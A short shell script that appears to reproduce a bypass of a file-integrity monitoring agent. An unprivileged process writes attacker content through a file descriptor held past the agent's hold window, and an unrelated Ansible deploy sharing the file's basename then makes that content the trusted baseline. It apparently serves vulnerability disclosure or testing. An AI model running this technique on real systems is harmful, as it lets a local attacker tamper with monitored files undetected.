#!/bin/sh
# Run as root with the agent up (policies: see README in this directory).
# 1. unprivileged writer of a group-writable managed file makes a change the
#    agent never sees (write through an fd held past the 500 ms hold);
# 2. root's config management deploys an UNRELATED file that merely has the
#    same basename, in a directory no policy covers;
# 3. the attacker's content becomes the managed file's baseline.
F=${1:-/srv/a2/managed/gw.conf}
B=$(basename "$F")
setpriv --reuid=65534 --regid=65534 --clear-groups sh -c "exec 3<>'$F'; sleep 1; printf 'setting=ATTACKER\n' >&3; sleep 1"
sleep 1; echo "== after the held-fd write (not reverted):"; cat "$F"
mkdir -p /root/unrelated
(cd /tmp && ansible localhost -c local -m copy -a "dest=/root/unrelated/$B content=unrelated\n" >/dev/null 2>&1)
sleep 2; echo "== after an unrelated deploy of /root/unrelated/$B:"; cat "$F"
